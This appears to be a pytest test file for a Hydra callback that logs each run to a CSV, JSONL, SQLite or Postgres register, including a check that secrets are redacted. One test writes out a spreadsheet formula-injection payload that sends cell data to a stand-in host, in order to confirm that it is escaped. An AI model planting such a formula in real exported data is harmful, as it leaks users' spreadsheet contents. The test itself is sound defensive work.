"""RegisterRun: every run ever made is a row."""

from __future__ import annotations

import contextlib
import csv
import os
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from conftest import wait_for

from hydra_callbacks import RegisterRun
from hydra_callbacks.errors import MissingExtraError, SettingError
from hydra_callbacks.lifecycle import Launch
from hydra_callbacks.runs.index import index
from hydra_callbacks.runs.register import open_register

if TYPE_CHECKING:
    from conftest import App

FORMS = ("csv", "jsonl", "db")

REGISTER: dict[str, Any] = {"_target_": "hydra_callbacks.RegisterRun"}
RECORD = {"_target_": "hydra_callbacks.RunRecord"}
GIT = {"_target_": "hydra_callbacks.GitInfo"}


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def test_single_runs_are_rows_with_the_published_columns_first(app: App) -> None:
    app.callbacks(REGISTER, RECORD, GIT)
    sha = app.commit()
    assert app.run("opt.name='a, \"b\" é'").code == 0
    assert app.run("fail_at=1").code == 1
    register = app.directory / "outputs/register.csv"
    first, second = rows(register)
    columns = list(first)
    assert columns[:7] == ["x", "fail_at", "opt.lr", "opt.name", "git.sha", "git.is_dirty", "run-dir"]
    assert columns[7] == "job_success"
    assert (first["x"], first["opt.name"], first["git.sha"]) == ("1", 'a, "b" é', sha)
    assert (first["git.is_dirty"], first["job_success"], second["job_success"]) == ("False", "True", "False")
    assert (app.directory / first["run-dir"] / "results.json").is_file()
    assert first["run-dir"].startswith("outputs")
    assert (first["run-status"], second["run-status"]) == ("completed", "failed")
    assert second["run-error"] == "ValueError: x must not be 1"
    assert (first["result.double"], first["result.deep.er"], second["result.double"]) == ("2", "é", "")
    assert len(first["run-id"]) == 36


@pytest.mark.parametrize("name", ["RegisterRun", "RegisterRunCallback"])
@pytest.mark.parametrize("launcher", [[], ["hydra/launcher=joblib", "hydra.launcher.n_jobs=2"]])
def test_each_job_of_a_sweep_is_a_row_of_its_own_file(app: App, launcher: list[str], name: str) -> None:
    app.callbacks({"_target_": f"hydra_callbacks.{name}"})
    assert app.run("-m", "x=1,2,3", "fail_at=2", *launcher).code == 1
    seen = sorted(rows(app.directory / "multiruns/register.csv"), key=lambda row: row["x"])
    assert [row["x"] for row in seen] == ["1", "2", "3"]
    assert [row["job_success"] for row in seen] == ["True", "False", "True"]
    for number, row in enumerate(seen):
        assert (app.directory / row["run-dir"]).samefile(app.one(f"multirun/*/*/{number}"))
    assert not (app.directory / "outputs").exists()


def test_new_columns_appear_when_the_configuration_changes(app: App) -> None:
    app.callbacks({**REGISTER, "run_base_dir": "books", "register_file": "all.csv"})
    assert app.run().code == 0
    assert app.run("+depth.of=3", "~opt.lr").code == 0
    first, second = rows(app.directory / "books/all.csv")
    assert (first["depth.of"], first["opt.lr"]) == ("", "0.1")
    assert (second["depth.of"], second["opt.lr"]) == ("3", "")
    assert second["job_success"] == "True"


def test_an_interrupted_run_is_a_row_too(app: App) -> None:
    app.callbacks(REGISTER)
    app.write("app.py", (app.directory / "app.py").read_text().replace("return cfg.x", "sys.exit(4)"))
    assert app.run().code == 4
    (row,) = rows(app.directory / "outputs/register.csv")
    assert (row["job_success"], row["run-status"], row["run-error"]) == ("False", "failed", "SystemExit: 4")


def test_secrets_stay_out(app: App) -> None:
    app.callbacks(REGISTER, more="db: {password: swordfish, url: 'ftp://me:pw@h/'}\n")
    app.run("+note=swordfish")
    text = (app.directory / "outputs/register.csv").read_text()
    assert "swordfish" not in text
    assert "me:pw" not in text


def test_a_register_that_cannot_be_written_costs_nothing(app: App) -> None:
    app.callbacks(REGISTER)
    app.write("outputs/register.csv/in_the_way", "")
    done = app.run()
    assert done.code == 0
    assert "RegisterRun.job_ended failed; the run goes on" in done.out
    assert app.one("outputs/*/*/results.json").exists()


def test_a_name_of_no_known_form_is_refused() -> None:
    with pytest.raises(SettingError, match=r"register_file must be a file that ends in \.csv, .* got 'register\.txt'"):
        RegisterRun(register_file="register.txt")


@pytest.mark.parametrize("url", ["postgresql://me:swordfish@host/db", "postgresql://me@host/db?password=swordfish"])
def test_a_password_in_an_address_is_refused_and_not_repeated(app: App, url: str) -> None:
    """Hydra itself would write it into the files of every run."""
    app.callbacks({**REGISTER, "register_file": url})
    done = app.run()
    assert done.code == 1
    assert "an address without a password" in done.err
    assert "PGPASSWORD" in done.err
    assert "swordfish" not in done.text.replace(url, "")
    assert not (app.directory / "outputs").exists()


def told(path: Path) -> list[dict[str, Any]]:
    """Return what a register of any form tells."""
    with contextlib.closing(open_register(path)) as register:
        return list(register.rows())


@pytest.mark.parametrize("form", FORMS)
def test_the_name_of_the_file_chooses_the_form(app: App, form: str) -> None:
    app.callbacks({**REGISTER, "register_file": f"all.{form}"}, RECORD, more="tags: [a, null]\nflag: true\n")
    assert app.run("-m", "x=1,2,3", "fail_at=2", "hydra/launcher=joblib", "hydra.launcher.n_jobs=2").code == 1
    rows = sorted(told(app.directory / f"multiruns/all.{form}"), key=lambda row: row["run-num"])
    assert [row["run-status"] for row in rows] == ["completed", "failed", "completed"]
    assert [row["run-overrides"] for row in rows] == [[f"x={x}", "fail_at=2"] for x in (1, 2, 3)]
    for row in rows:
        assert (row["tags"], row["flag"], row["opt.lr"], row["run-app"]) == (["a", None], True, 0.1, "app")
        assert (app.directory / row["run-dir"] / ".hydra/run.json").is_file()
    assert rows[0]["result.deep.er"] == "é"
    left = sorted(path.name for path in (app.directory / "multiruns").iterdir())
    assert left == [f"all.{form}"], "no lock, mark or journal stays"


@pytest.mark.parametrize("form", FORMS)
def test_a_job_that_starts_again_stays_one_row(app: App, form: str) -> None:
    """As when Slurm requeues it, or Ray tries again."""
    app.callbacks({**REGISTER, "register_file": f"r.{form}"}, RECORD)
    breakable = '    if Path("broken").exists(): raise ValueError("broken")\n    if cfg.x =='
    app.write("app.py", (app.directory / "app.py").read_text().replace("    if cfg.x ==", breakable))
    broken = app.write("broken", "")
    assert app.run("-m", "x=1,2", "hydra.sweep.dir=here").code == 1
    broken.unlink()
    assert app.run("-m", "x=1,2", "hydra.sweep.dir=here").code == 0
    rows = told(app.directory / f"multiruns/r.{form}")
    assert sorted((row["x"], row["run-status"], row["run-attempt"]) for row in rows) == [
        (1, "completed", 2),
        (2, "completed", 2),
    ]
    assert all(row.get("run-error") is None for row in rows)


@pytest.mark.skipif(sys.platform == "win32", reason="SIGKILL")
@pytest.mark.parametrize("form", FORMS)
def test_a_run_is_known_while_it_runs_and_when_it_was_killed(app: App, form: str) -> None:
    app.callbacks({**REGISTER, "register_file": f"r.{form}"})
    waiting = "    import time; Path('started').touch(); time.sleep(100)\n    if cfg.x =="
    app.write("app.py", (app.directory / "app.py").read_text().replace("    if cfg.x ==", waiting))
    process = app.start("x=7")
    wait_for((app.directory / "started").exists)
    (row,) = told(app.directory / f"outputs/r.{form}")
    assert (row["run-status"], row["x"]) == ("running", 7)
    process.send_signal(signal.SIGKILL)
    process.communicate()
    (row,) = told(app.directory / f"outputs/r.{form}")
    assert (row["run-status"], row["x"], row["job_success"]) == ("lost", 7, False)


@pytest.mark.skipif(sys.platform != "linux" or os.geteuid() != 0, reason="mounting a small disk takes Linux and root")
@pytest.mark.parametrize("form", FORMS)
def test_a_full_disk_costs_the_job_nothing_and_index_adds_its_row(app: App, form: str) -> None:
    disk = app.directory / "disk"
    disk.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=256k", "tmpfs", str(disk)], check=False).returncode:
        pytest.skip("this container may not mount")
    try:
        on_disk = {**REGISTER, "register_file": f"r.{form}", "run_base_dir": "disk"}
        app.callbacks(on_disk, RECORD, more=f"note: {'n' * 9000}\n")
        assert app.run("x=1").code == 0
        with contextlib.suppress(OSError), (disk / "ballast").open("wb", buffering=0) as ballast:
            while True:
                ballast.write(b"x" * 512)
        done = app.run("x=2")
        assert done.code == 0
        assert "RegisterRun.job_ended failed; the run goes on" in done.out
        remedy = f"`hydra-callbacks index --register {disk / f'r.{form}'}` adds it from its record"
        assert remedy in done.out
        assert "Traceback" not in done.text
        assert [row["x"] for row in told(disk / f"r.{form}")] == [1]
        (disk / "ballast").unlink()
        index(app.directory, disk / f"r.{form}")
        assert sorted(row["x"] for row in told(disk / f"r.{form}")) == [1, 2]
    finally:
        subprocess.run(["umount", str(disk)], check=True)


def test_a_database_that_cannot_be_reached_costs_the_job_seconds(app: App) -> None:
    """A server that accepts and never answers, as behind a bad network."""
    pytest.importorskip("psycopg")
    with socket.create_server(("127.0.0.1", 0)) as silent:
        url = f"postgresql://me@127.0.0.1:{silent.getsockname()[1]}/runs"
        app.callbacks({**REGISTER, "register_file": url}, RECORD)
        begun = time.monotonic()
        done = app.run()
    assert done.code == 0
    assert time.monotonic() - begun < 60
    assert "RegisterRun.job_ended failed; the run goes on" in done.out
    assert "cannot be reached" in done.out
    assert f"index --register {url}" in done.out
    assert "Traceback" not in done.text
    assert app.record()["status"] == "completed"


def test_a_postgres_register_without_its_extra_is_refused_by_name(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("importlib.util.find_spec", lambda _name: None)
    with pytest.raises(MissingExtraError, match=r"pip install 'hydra-callbacks\[postgres\]'"):
        RegisterRun(register_file="postgresql://me@host/runs")
    RegisterRun(enabled=False, register_file="postgresql://me@host/runs")


def test_another_programs_file_is_left_alone(app: App) -> None:
    theirs = app.write("outputs/register.csv", "name;value\na;1\n")
    app.callbacks(REGISTER)
    done = app.run()
    assert done.code == 0
    assert "is no register: it lacks the columns run-dir and job_success (it has name;value)" in done.out
    assert theirs.read_text() == "name;value\na;1\n"


@pytest.mark.parametrize(("form", "loads"), [("csv", False), ("jsonl", False), ("db", True)])
def test_a_job_loads_a_database_only_for_a_register_that_is_one(app: App, form: str, loads: bool) -> None:
    tell = (
        "    import sys; print('loaded', sorted({'sqlite3', 'psycopg', 'polars', 'rich', 'click'} & set(sys.modules)))"
    )
    app.write("app.py", (app.directory / "app.py").read_text().replace("    if cfg.x ==", f"{tell}\n    if cfg.x =="))
    app.callbacks({**REGISTER, "register_file": f"r.{form}"})
    assert f"loaded {['sqlite3'] if loads else []}" in app.run().out


def test_formulas_in_a_configuration_do_not_run_in_a_spreadsheet(app: App) -> None:
    formula = '=HYPERLINK("http://x/?"&A1)'
    app.callbacks(REGISTER)
    app.write("conf/config.yaml", (app.directory / "conf/config.yaml").read_text() + f"note: '{formula}'\n")
    assert app.run().code == 0
    register = app.directory / "outputs/register.csv"
    assert rows(register)[0]["note"] == f"'{formula}"
    assert told(register)[0]["note"] == formula


def test_an_absolute_place_holds_all_projects_runs(app: App, tmp_path: Path) -> None:
    app.callbacks({**REGISTER, "register_file": str(tmp_path / "elsewhere/all.jsonl")})
    assert app.run().code == 0
    assert app.run("-m", "x=1").code == 0
    found = told(tmp_path / "elsewhere/all.jsonl")
    assert [row["run-num"] for row in found] == [None, 0]
    assert all(Path(row["run-dir"]).is_absolute() for row in found), "relative to where would not be known"


@pytest.mark.skipif(sys.platform != "linux", reason="the list of what is mounted")
def test_sqlite_on_a_network_file_system_is_warned_of_once(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    """Nothing is shared over a network where tests run, so the list of what is mounted is another one."""
    mounts = tmp_path / "mounts"
    mounts.write_text(f"/dev/vda / ext4 rw 0 0\nserver:/home {tmp_path} nfs4 rw 0 0\n")
    monkeypatch.setattr("hydra_callbacks.support.disks.file_system.__defaults__", (mounts,))
    launch = Launch(
        app="app",
        config_name=None,
        cwd=tmp_path,
        output_dir=None,
        output_subdir=None,
        is_sweep=False,
        started_at=0.0,
        hydra_config=None,
    )
    for form in FORMS:
        RegisterRun(register_file=f"r.{form}").launch_started(launch)
    (said,) = [record.getMessage() for record in caplog.records]
    assert said.startswith(f"Register: {tmp_path}/outputs/r.db is on a network file system (nfs4)")
    assert ".jsonl" in said
    assert "postgresql://" in said
